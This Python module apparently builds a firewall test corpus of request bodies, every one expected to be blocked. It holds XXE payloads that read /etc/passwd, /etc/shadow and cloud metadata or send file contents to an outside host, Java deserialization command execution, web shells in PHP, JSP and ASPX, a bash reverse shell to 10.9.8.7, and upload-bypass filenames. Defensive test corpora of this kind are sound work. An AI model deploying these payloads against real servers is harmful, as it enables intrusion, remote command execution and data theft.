"""Attacks that are a whole body: XML with entities, and files that a server would run."""

from corpus import build
from corpus.attacks.payloads import plain_headers
from corpus.benign.words import stem

XXE = [
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///c:/windows/win.ini">]><r>&x;</r>',
    '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]><r>&x;</r>',
    '<!DOCTYPE r [<!ENTITY % d SYSTEM "http://10.9.8.7/x.dtd"> %d;]><r/>',
    '<!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>',
    '<!DOCTYPE r PUBLIC "-//A//B" "http://evil.example/x.dtd"><r/>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=index.php">]><r>&x;</r>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "expect://id">]><r>&x;</r>',
    '<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]><r>&d;</r>',
    '<!DOCTYPE r [<!ENTITY % p "<!ENTITY x SYSTEM \'file:///etc/hosts\'>"> %p;]><r>&x;</r>',
    '<!DOCTYPE r [<!ENTITY x SYSTEM "gopher://127.0.0.1:6379/_INFO">]><r>&x;</r>',
    '<!DOCTYPE r [<!ENTITY x SYSTEM "jar:http://10.9.8.7/a.zip!/b">]><r>&x;</r>',
    '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></r>',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="file:///etc/passwd"/></svg>',
    '<?xml version="1.0"?><!DOCTYPE s:Envelope [<!ENTITY x SYSTEM "file:///etc/shadow">]><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>&x;</s:Body></s:Envelope>',
    '<!DOCTYPE r [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'http://10.9.8.7/?%f;\'>">%e;%s;]><r/>',
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document(\'/etc/passwd\')"/></xsl:template></xsl:stylesheet>',
    '<!DOCTYPE r [<!ELEMENT r ANY><!ENTITY x SYSTEM "netdoc:///etc/passwd">]><r>&x;</r>',
    '<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java>',
    '<methodCall><methodName>system.multicall</methodName><params><param><value><string>\'; system("id"); //</string></value></param></params></methodCall>',
    '<map><entry><jdk.nashorn.internal.objects.NativeString><value class="java.lang.ProcessBuilder"><command><string>id</string></command></value></jdk.nashorn.internal.objects.NativeString></entry></map>',
]
SHELLS = {
    "php": b"<?php system($_GET['c']); ?>", "php5": b"<?php @eval($_POST['a']);", "phtml": b"<?= `$_GET[0]` ?>", "pht": b"<?php passthru($_REQUEST['x']);?>", "phar": b"<?php __HALT_COMPILER(); ?>",
    "jsp": b'<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>', "jspx": b'<jsp:root version="2.0"><jsp:scriptlet>Runtime.getRuntime().exec("id");</jsp:scriptlet></jsp:root>',
    "asp": b'<% eval request("c") %>', "aspx": b'<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe","/c "+Request["c"]); %>', "ashx": b'<%@ WebHandler Language="C#" Class="H" %>', "asa": b'<%execute request("x")%>',
    "cfm": b'<cfexecute name="cmd.exe" arguments="/c dir"></cfexecute>', "pl": b"#!/usr/bin/perl\nprint `$ENV{QUERY_STRING}`;", "cgi": b"#!/bin/sh\necho; id", "py": b"import os\nos.system('id')", "sh": b"#!/bin/bash\nbash -i >& /dev/tcp/10.9.8.7/4444 0>&1\n",
    "htaccess": b"AddType application/x-httpd-php .jpg\n", "user.ini": b"auto_prepend_file=x.jpg\n", "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>', "html": b"<script>alert(document.cookie)</script>", "shtml": b'<!--#exec cmd="id" -->', "config": b'<configuration><system.webServer><handlers><add name="x" path="*.config" verb="*" type="x"/></handlers></system.webServer></configuration>',
}
NAMES = {"htaccess": ".htaccess", "user.ini": ".user.ini", "config": "web.config"}
DISGUISES = ["x.php.jpg", "x.php%00.jpg", "x.pHp", "x.php.", "x.php;.jpg", "x.jpg.php", "x.php ", "x.asp;.jpg", "../x.php", "..\\..\\x.aspx", "x.php/", "x.php::$DATA"]


def upload(corpus, name, file, kind, data, way):
    boundary = "--------------------" + build.digest(file + way)
    body = build.multipart(boundary, [("title", "bilde"), ("file", file, kind, data)])
    corpus.add(name, f"a script as a file: {way}", "POST", "/upload", [*plain_headers(), ("Content-Type", f"multipart/form-data; boundary={boundary}")], body,
               **{"class": "upload", "placement": "file", "encoding": way, "expect": "block"})


def fill(corpus):
    for text in XXE:
        name = "xxe-" + build.digest(text)
        for kind in ("application/xml", "text/xml; charset=utf-8") if "Envelope" not in text else ("application/soap+xml", "text/xml"):
            corpus.add(name, "entities and the like in XML", "POST", "/api/xml", [*plain_headers(), ("Content-Type", kind)], text,
                       **{"class": "xxe", "placement": "xml", "encoding": kind, "expect": "block"})
        corpus.add(name, "XML in a form", "POST", "/form", [*plain_headers(), ("Content-Type", build.FORM)], build.urlencoded([("xml", text)]),
                   **{"class": "xxe", "placement": "form", "encoding": "as needed", "expect": "block"})
    for ending, data in SHELLS.items():
        name, file = f"upload-{ending}", NAMES.get(ending, f"x.{ending}")
        upload(corpus, name, file, "application/octet-stream", data, "as it is")
        upload(corpus, name, file, "image/jpeg", data, "said to be a picture")
        if ending in ("php", "phtml", "jsp", "aspx", "php5"):
            upload(corpus, name, file, "image/gif", b"GIF89a;\n" + data, "begins as a picture")
            corpus.add(name, "a script by PUT", "PUT", f"/uploads/{file}", [*plain_headers(), ("Content-Type", "application/octet-stream")], data,
                       **{"class": "upload", "placement": "body", "encoding": "as it is", "expect": "block"})
    for file in DISGUISES:
        upload(corpus, stem("upload", file), file, "image/jpeg", SHELLS["aspx" if "asp" in file else "php"], f"named {file}")
